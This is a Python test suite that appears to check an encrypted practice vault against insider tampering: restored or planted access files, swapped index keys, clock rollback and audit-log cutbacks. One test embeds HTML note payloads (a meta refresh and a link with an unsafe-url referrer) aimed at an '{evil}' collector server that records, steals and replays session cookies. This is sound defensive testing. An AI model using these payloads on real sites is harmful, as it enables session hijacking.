"""Attacks on the promises of issue 14, each written as the attacker runs it.

The ledger: someone who can write the (synced) vault folder but holds no key of the
client, typically a colleague of the same group practice whose access was revoked, or
one who was never granted a client. The open site: another local user or server.
"""

from __future__ import annotations

import http.server
import os
from dataclasses import dataclass
from pathlib import Path

import pytest
from conftest import CHEAP_KDF
from nacl.public import PublicKey, SealedBox
from site_fixtures import LocalServer

from vault import Passphrase, Plaintext, Vault, verify
from vault.errors import NoAccess, TamperedFile
from vault.format import key_generations
from vault.format.keys import Practitioner
from vault.sharing import access
from vault.store.colleagues import identity_of, join_practice
from vault.store.practice import create_practice, register_device

ALEX, BEA, DAN = "fictional alpha passphrase", "fictional bravo passphrase", "fictional delta passphrase"


@dataclass
class Group:
    """One vault, three practitioners each with a device: Alex owns client AB-1."""

    root: Path
    configs: dict[str, Path]
    ids: dict[str, str]
    client: str

    def vault(self, who: str) -> Vault:
        return Vault(self.root, self.configs[who])

    def unlock(self, who: str) -> tuple[Vault, Practitioner]:
        vault = self.vault(who)
        return vault, vault.unlock(Passphrase({"alex": ALEX, "bea": BEA, "dan": DAN}[who]))

    def access_file(self, who: str) -> Path:
        """Where Alex's grant of the client's first key to ``who`` lies."""
        device = self.vault("alex").device.device_id
        name = key_generations.access_name(self.ids[who], key_generations.FIRST, device)
        return self.root / "clients" / self.client / "access" / name

    def problems(self, who: str = "alex") -> list[str]:
        return [str(p) for p in verify(self.vault(who))]


@pytest.fixture
def group(tmp_path: Path) -> Group:
    root = tmp_path / "vault"
    configs = {name: tmp_path / f"{name}-config" for name in ("alex", "bea", "dan")}
    alex_vault = create_practice(root, configs["alex"], Passphrase(ALEX), CHEAP_KDF)
    alex = alex_vault.unlock(Passphrase(ALEX))
    client = alex_vault.add_client("AB-1")
    ids = {"alex": alex.practitioner_id}
    identities = {"alex": identity_of(alex)}
    passphrases = {"bea": BEA, "dan": DAN}
    for name, passphrase in passphrases.items():
        identities[name], _ = join_practice(root, Passphrase(passphrase), CHEAP_KDF)
        alex_vault.trust.add_colleague(alex, name.title(), identities[name])
        ids[name] = identities[name].practitioner_id
    for name, passphrase in passphrases.items():  # each adds the others: one trusts all devices
        own = register_device(root, configs[name], Passphrase(passphrase))
        me = own.unlock(Passphrase(passphrase))
        for other in ("alex", *passphrases):
            if other != name:
                own.trust.add_colleague(me, other.title(), identities[other])
        own.close()
    alex_vault.close()
    return Group(root, configs, ids, client)


def _generations_read_by(group: Group, who: str) -> int:
    vault, practitioner = group.unlock(who)
    try:
        return len(vault.keyring.client_keys(practitioner, group.client))
    except (NoAccess, TamperedFile):  # none, or only what was planted
        return 0


def test_a_revoked_colleague_who_puts_their_access_file_back_is_reported_and_not_resealed(
    group: Group,
) -> None:
    """Bea keeps a copy of her sealed key, is revoked, and puts the copy back. The ledger's
    last word on the file is "deleted", and that was read as "nothing to check": verify
    stayed silent, Bea counted as a holder again, and the next revoke of anyone else sealed
    the client's new key to her."""
    vault, alex = group.unlock("alex")
    access.grant(vault, alex, group.client, vault.trust.colleague("Bea"))
    access.grant(vault, alex, group.client, vault.trust.colleague("Dan"))
    kept = group.access_file("bea").read_bytes()
    access.revoke(vault, alex, group.client, vault.trust.colleague("Bea"))
    assert group.problems() == []

    group.access_file("bea").write_bytes(kept)  # what a revoked colleague with the folder can do
    assert any(str(group.access_file("bea")) in p and "put back?" in p for p in group.problems())

    vault, alex = group.unlock("alex")
    revoked = access.revoke(vault, alex, group.client, vault.trust.colleague("Dan"))
    assert group.ids["bea"] not in revoked.kept
    assert _generations_read_by(group, "bea") < len(vault.keyring.client_generations(group.client))


def test_an_access_file_planted_for_a_colleague_never_granted_is_reported_and_not_resealed(
    group: Group,
) -> None:
    """Bea was never granted AB-1. Any bytes under her name in its access folder made her a
    "holder": verify said nothing (it checks only the files the log recorded), and Alex's
    next revoke of Dan sealed every generation of the client's key to Bea."""
    vault, alex = group.unlock("alex")
    access.grant(vault, alex, group.client, vault.trust.colleague("Dan"))
    planted = group.access_file("bea")
    planted.write_bytes(os.urandom(112))
    assert any(str(planted) in p and "planted?" in p for p in group.problems())

    revoked = access.revoke(vault, alex, group.client, vault.trust.colleague("Dan"))
    assert group.ids["bea"] not in revoked.kept
    assert _generations_read_by(group, "bea") == 0


def test_a_new_devices_first_unlock_does_not_vouch_for_a_planted_access_file(
    group: Group, tmp_path: Path
) -> None:
    """The once-per-device recording of an older vault's files ran on every new device's
    first unlock too (register_device writes no marker): a planted access file lying there
    was "recorded", and verify vouched for it from then on."""
    planted = group.access_file("bea")
    planted.write_bytes(os.urandom(112))
    laptop = register_device(group.root, tmp_path / "alex-laptop", Passphrase(ALEX))
    laptop.unlock(Passphrase(ALEX))
    laptop.close()
    recorded = [e for e in laptop.audit.entries() if e.event == "ledger-record"]
    assert all(str(planted.relative_to(group.root)) not in e.data["files"] for e in recorded)
    assert any(str(planted) in p and "planted?" in p for p in group.problems())


def _seal_index_key_to(root: Path, identity_box: PublicKey, key: bytes, pid: str) -> Path:
    index = root / "practitioners" / f"{pid}.index"
    index.write_bytes(SealedBox(identity_box).encrypt(key))
    return index


@pytest.mark.parametrize("when", ["swapped after the add", "planted before the add"])
def test_a_colleagues_first_device_does_not_take_an_index_key_the_log_does_not_vouch_for(
    tmp_path: Path, when: str
) -> None:
    """Bea's key file is in the vault (join) before Alex adds her. Whoever writes the folder
    seals a handle-index key of their choice to Bea's public key: after Alex's add (verify
    said "replaced?" until Bea registered, and her registration then recorded the swapped
    hash, silencing it), or before it (the add saw a file there, wrote and recorded nothing).
    Bea's first device took it, so her retention facts were keyed by the attacker."""
    root = tmp_path / "vault"
    alex_vault = create_practice(root, tmp_path / "alex-config", Passphrase(ALEX), CHEAP_KDF)
    alex = alex_vault.unlock(Passphrase(ALEX))
    bea, _ = join_practice(root, Passphrase(BEA), CHEAP_KDF)
    chosen = b"\x07" * 32
    if when == "planted before the add":
        _seal_index_key_to(root, bea.box_public, chosen, bea.practitioner_id)
    try:
        alex_vault.trust.add_colleague(alex, "Bea", bea)
    except TamperedFile:
        return  # refused at the add, naming the file: nothing was taken
    if when == "swapped after the add":
        _seal_index_key_to(root, bea.box_public, chosen, bea.practitioner_id)
    with pytest.raises(TamperedFile):
        register_device(root, tmp_path / "bea-config", Passphrase(BEA))
    assert not list((tmp_path / "bea-config").rglob("device.json"))
    assert verify(Vault(root, tmp_path / "alex-config")) != []


class _Collector(LocalServer):
    """Another server on 127.0.0.1 (any local program): it records the Referer and Cookie of
    every request, and sends a browser that arrives with the site's address back to its own
    port under the site's prefix, where the cookie's Path now matches (ports do not count)."""

    def __init__(self) -> None:
        self.referers: list[str] = []
        self.cookies: list[str] = []
        super().__init__(self._answer)

    def _answer(self, request: http.server.BaseHTTPRequestHandler) -> None:
        referer = request.headers.get("Referer") or ""
        self.referers.append(referer)
        self.cookies.append(request.headers.get("Cookie") or "")
        onward = request.path == "/" and referer.count("/") > 3
        request.send_response(302 if onward else 200)
        if onward:
            request.send_header("Location", "/" + referer.split("/")[3] + "/steal")
        request.send_header("Content-Length", "0")
        request.end_headers()


@pytest.mark.parametrize(
    "line",
    [
        # a heading line kept its raw HTML: a refresh, with the full address as Referer
        '## Plan <meta name="referrer" content="unsafe-url"><meta http-equiv="refresh" content="0;url={evil}/">',
        # attr_list let a note's link carry its own referrer policy (one click)
        'See [the worksheet]({evil}/){{: #go referrerpolicy="unsafe-url" }}',
    ],
)
def test_a_shared_note_cannot_send_the_browser_with_the_sites_address_to_another_local_server(
    tmp_path: Path, line: str
) -> None:
    """A colleague's shared note sends the browser, with the site's address as Referer, to a
    server on another 127.0.0.1 port; that server learns the secret prefix, sends the
    browser back to itself under it, and the browser hands it the session cookie (cookies
    ignore ports), which then opens the site when replayed."""
    import threading
    import urllib.error
    import urllib.request

    from playwright.sync_api import sync_playwright
    from site_fixtures import CHROMIUM_ARGS, note, require_chromium

    from site_builder import build_shared_site, create, theme
    from site_builder.server import SiteServer
    from vault import OpenedNote

    chromium = require_chromium()
    collector = _Collector()
    text = note("aaaaaaaaaaaaaaa1", "2026-02-02", body=line.format(evil=collector.origin) + "\n")
    built = build_shared_site(
        "AB-1",
        [OpenedNote("aaaaaaaaaaaaaaa1", 1, "2026-02-02", True, Plaintext(text.encode()))],
        create(tmp_path),
        "b",
    )
    server = SiteServer(built.html, theme.script_hashes(built.html))
    stop = threading.Event()
    thread = threading.Thread(target=server.serve_until, args=(stop, 3600))
    thread.start()
    try:
        with sync_playwright() as playwright:
            browser = playwright.chromium.launch(executable_path=chromium, args=CHROMIUM_ARGS)
            page = browser.new_page()
            page.goto(server.url)
            page.wait_for_url(f"{server.origin}{server.prefix}/")
            page.goto(f"{server.origin}{server.prefix}/sessions/2026-02.html")
            for link in page.locator(f'a[href^="{collector.origin}"]').all():
                link.click()  # the practitioner follows a link in the note
            page.wait_for_timeout(1500)
            browser.close()
        assert not any(server.prefix in r for r in collector.referers), collector.referers
        assert not any(collector.cookies), collector.cookies
        for cookie in filter(None, collector.cookies):
            replayed = urllib.request.Request(f"{server.origin}{server.prefix}/", headers={"Cookie": cookie})
            with pytest.raises(urllib.error.HTTPError):
                urllib.request.urlopen(replayed, timeout=5).close()
    finally:
        stop.set()
        thread.join()
        collector.close()


def _at(hour: int):
    import datetime as dt

    return lambda: dt.datetime(2026, 3, 1, hour, 0, tzinfo=dt.UTC)


def test_an_older_key_file_put_back_is_reported_after_the_devices_clock_went_back(tmp_path: Path) -> None:
    """The ledger ordered entries by their time stamps: after this device's clock was set
    back (it ran an hour fast), its newer passphrase change sorted before the older one, so
    the older key file (the leaked passphrase) passed as the newest, and the real one was
    reported as "put back"."""
    root, config = tmp_path / "vault", tmp_path / "config"
    create_practice(root, config, Passphrase("first"), CHEAP_KDF, clock=_at(8)).close()
    Vault(root, config, clock=_at(10)).change_passphrase(Passphrase("first"), Passphrase("second"))
    [key_file] = root.glob("practitioners/*.json")
    second = key_file.read_bytes()
    Vault(root, config, clock=_at(9)).change_passphrase(Passphrase("second"), Passphrase("third"))
    assert verify(Vault(root, config)) == []  # the newest is the newest
    key_file.write_bytes(second)
    assert any(str(key_file) in str(p) and "put back?" in str(p) for p in verify(Vault(root, config)))


def test_an_older_key_file_put_back_is_reported_when_two_devices_clocks_disagree(tmp_path: Path) -> None:
    root = tmp_path / "vault"
    laptop, desktop = tmp_path / "laptop", tmp_path / "desktop"
    create_practice(root, laptop, Passphrase("first"), CHEAP_KDF, clock=_at(8)).close()
    register_device(root, desktop, Passphrase("first"), clock=_at(8)).close()
    Vault(root, laptop, clock=_at(10)).change_passphrase(Passphrase("first"), Passphrase("second"))
    [key_file] = root.glob("practitioners/*.json")
    second = key_file.read_bytes()
    # later, on the desktop, whose clock is an hour behind the laptop's
    Vault(root, desktop, clock=_at(9)).change_passphrase(Passphrase("second"), Passphrase("third"))
    key_file.write_bytes(second)
    assert any(str(key_file) in str(p) and "put back?" in str(p) for p in verify(Vault(root, desktop)))


def test_a_log_cut_back_to_an_older_checkpoint_is_reported_on_the_device_that_wrote_it(group: Group) -> None:
    """Bea, revoked on Alex's machine, cuts Alex's log back to before the revoke, puts back
    the in-vault checkpoint of then, and her access file: Alex's own copy of his checkpoint
    (outside the vault) still knows better."""
    _revoke_then_cut_back(group)
    assert any("checkpointed" in p for p in group.problems("alex"))


def test_a_log_cut_back_to_an_older_checkpoint_is_reported_on_a_colleagues_device(group: Group) -> None:
    """Another machine knew only the in-vault checkpoint, which Bea put back too: verify there
    passed, and with it the revoke that the cut took away (Bea held the client's current key
    again). Each device now keeps the newest checkpoint it has seen of every other one."""
    _revoke_then_cut_back(group, seen_by="dan")
    assert _generations_read_by(group, "bea") == 1  # what the cut back gave her: the current key
    assert any("checkpointed" in p for p in group.problems("dan"))


def _revoke_then_cut_back(group: Group, seen_by: str | None = None) -> None:
    vault, alex = group.unlock("alex")
    access.grant(vault, alex, group.client, vault.trust.colleague("Bea"))
    vault.close()
    log = group.root / "audit" / f"{vault.device.device_id}.log"
    checkpoint = group.root / "audit" / f"{vault.device.device_id}.checkpoint"
    kept = log.read_bytes(), checkpoint.read_bytes(), group.access_file("bea").read_bytes()
    client = group.root / "clients" / group.client
    before = set(client.rglob("*"))
    vault, alex = group.unlock("alex")
    access.revoke(vault, alex, group.client, vault.trust.colleague("Bea"))
    vault.close()
    if seen_by is not None:
        assert group.problems(seen_by) == []  # the colleague's machine has seen the newer head
    log.write_bytes(kept[0])
    checkpoint.write_bytes(kept[1])
    group.access_file("bea").write_bytes(kept[2])
    for made in sorted(set(client.rglob("*")) - before, reverse=True):  # the new key, Alex's copy
        made.rmdir() if made.is_dir() else made.unlink()
